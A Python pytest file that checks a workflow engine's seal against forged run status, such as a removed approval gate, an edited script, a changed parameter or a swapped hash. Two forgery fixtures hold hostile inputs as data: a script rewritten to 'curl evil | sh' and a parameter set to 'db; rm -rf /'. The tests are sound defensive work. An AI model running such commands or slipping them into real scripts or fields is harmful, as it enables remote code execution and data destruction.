"""The seal over a run's template snapshot and parameters (`koos.engine.approval_proof`):
`status.template` and `status.parameters` are user-writable like all of the status, so the
run signs them at start and the planner stops a run whose copy no longer verifies
(StatusTampered) before it trusts the list of approve steps, a script or a parameter.

Every case builds its inputs directly and passes a fixed clock."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from koos.api.execution import ExecutionSpec, ExecutionStatus
from koos.api.template import TemplateSpec
from koos.engine.approval_proof import run_seal, template_hash, unsealed
from koos.engine.execution import plan
from koos.engine.facts import ApprovalFacts, ExecutionSnapshot, JobFacts, Plan, TemplateFacts

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
KEY = b"operator-key"
EXE_UID = "exe-uid"

TEMPLATE = TemplateSpec.model_validate(
    {
        "parameters": {
            "target": {"default": "web"},
            "ratio": {"type": "number", "default": 2.0},
        },
        "steps": [
            {"name": "prepare", "run": {"image": "busybox", "script": "true"}},
            {
                "name": "gate",
                "dependsOn": ["prepare"],
                "approve": {"approvers": {"groups": ["sre"]}},
            },
            {
                "name": "restart",
                "dependsOn": ["gate"],
                "run": {"image": "busybox", "script": "true"},
            },
        ],
    }
)


def snapshot(status: ExecutionStatus | None = None, **given: Any) -> ExecutionSnapshot:
    options: dict[str, Any] = {
        "name": "demo",
        "namespace": "ops",
        "uid": EXE_UID,
        "generation": 1,
        "spec": ExecutionSpec.model_validate({"templateRef": {"name": "tpl"}}),
        "status": status or ExecutionStatus(),
        "template": TemplateFacts("tpl", "tpl-uid", 1, TEMPLATE),
        "creator": "carol",
        "signing_key": KEY,
    }
    return ExecutionSnapshot(**{**options, **given})


def stored(status: ExecutionStatus) -> dict[str, Any]:
    """The status as the API server gives it back: JSON, where 2.0 reads back as 2."""
    text = json.dumps(status.model_dump(mode="json", by_alias=True, exclude_none=True))
    data: dict[str, Any] = json.loads(text.replace("2.0", "2"))
    return data


def waiting_at_gate() -> ExecutionStatus:
    """The run started, `prepare` succeeded, the gate asked for its Approval."""
    started = plan(snapshot(), T0)
    job = started.create_jobs[0]["metadata"]["name"]
    done = {job: JobFacts(name=job, phase="Succeeded")}
    asked = plan(snapshot(started.status, jobs=done), T0 + timedelta(minutes=1))
    assert [s.phase for s in asked.status.steps or []] == ["Succeeded", "Running", "Pending"]
    return asked.status


def rewritten(status: ExecutionStatus, change: Callable[[dict[str, Any]], None]) -> ExecutionStatus:
    data = stored(status)
    change(data)
    return ExecutionStatus.model_validate(data)


def rehash(data: dict[str, Any]) -> None:
    """What a careful forger does next: make `hash` match the edited spec."""
    spec = TemplateSpec.model_validate(data["template"]["spec"])
    data["template"]["hash"] = template_hash(spec)


def drop_gate(data: dict[str, Any]) -> None:
    spec = data["template"]["spec"]
    spec["steps"] = [s for s in spec["steps"] if s["name"] != "gate"]
    spec["steps"][-1]["dependsOn"] = ["prepare"]
    data["steps"] = [s for s in data["steps"] if s["name"] != "gate"]
    rehash(data)


def edit_script(data: dict[str, Any]) -> None:
    data["template"]["spec"]["steps"][2]["run"]["script"] = "curl evil | sh"
    rehash(data)


def change_parameter(data: dict[str, Any]) -> None:
    data["parameters"]["target"] = "db; rm -rf /"


def change_hash(data: dict[str, Any]) -> None:
    data["template"]["hash"] = "0" * 64


def drop_seal(data: dict[str, Any]) -> None:
    del data["seal"]


def other_run_seal(data: dict[str, Any]) -> None:
    status = ExecutionStatus.model_validate(data)
    assert status.template is not None
    data["seal"] = run_seal(KEY, "other-uid", status.template, status.parameters or {})


FORGERIES = {
    "approve step removed": drop_gate,
    "later step's script edited": edit_script,
    "parameter changed": change_parameter,
    "hash changed": change_hash,
    "seal removed": drop_seal,
    "another run's seal": other_run_seal,
}


def assert_tampered(result: Plan) -> None:
    assert result.status.phase == "Failed"
    assert result.status.conditions is not None
    assert result.status.conditions[0].reason == "StatusTampered"
    assert "written by someone else" in (result.status.message or "")
    assert result.create_jobs == () and result.create_approvals == ()
    assert result.event is not None and result.event.reason == "StatusTampered"


@pytest.mark.parametrize("change", FORGERIES.values(), ids=FORGERIES.keys())
def test_a_rewritten_template_or_parameters_fail_the_run(
    change: Callable[[dict[str, Any]], None],
) -> None:
    forged = rewritten(waiting_at_gate(), change)

    result = plan(snapshot(forged), T0 + timedelta(minutes=2))

    assert_tampered(result)
    # The pending Approval is withdrawn whenever the forged status still names it.
    gate_named = change is not drop_gate
    assert result.cancel_approvals == (("demo-gate",) if gate_named else ())


def test_the_gate_is_not_skipped_even_when_the_approval_is_granted() -> None:
    forged = rewritten(waiting_at_gate(), drop_gate)
    facts = ApprovalFacts("demo-gate", "Approved", "Approved by alice.", ("alice",))

    result = plan(snapshot(forged, approvals={"demo-gate": facts}), T0 + timedelta(minutes=2))

    assert_tampered(result)


def test_an_untouched_run_read_back_from_json_goes_on() -> None:
    status = rewritten(waiting_at_gate(), lambda data: None)
    assert status.parameters == {"target": "web", "ratio": 2}
    facts = ApprovalFacts("demo-gate", "Approved", "Approved by alice.", ("alice",))

    result = plan(snapshot(status, approvals={"demo-gate": facts}), T0 + timedelta(minutes=2))

    assert result.status.phase == "Running"
    assert [j["metadata"]["labels"]["koos.io/step"] for j in result.create_jobs] == ["restart"]
    assert result.status.seal == status.seal
    assert unsealed(KEY, EXE_UID, result.status) is None


def test_the_seal_is_written_at_start_over_the_uid() -> None:
    started = plan(snapshot(), T0).status

    assert started.template is not None and started.seal is not None
    assert started.template.hash == template_hash(TEMPLATE)
    assert unsealed(KEY, EXE_UID, started) is None
    assert unsealed(KEY, "other-uid", started) is not None
    assert unsealed(b"another-key", EXE_UID, started) is not None


def test_without_a_key_nothing_is_sealed_nor_checked() -> None:
    started = plan(snapshot(signing_key=None), T0)
    forged = rewritten(started.status, change_parameter)
    job = started.create_jobs[0]["metadata"]["name"]
    running = {job: JobFacts(name=job, phase="Active")}

    assert started.status.seal is None
    assert unsealed(None, EXE_UID, forged) is None
    assert plan(snapshot(forged, signing_key=None, jobs=running), T0).status.phase == "Running"
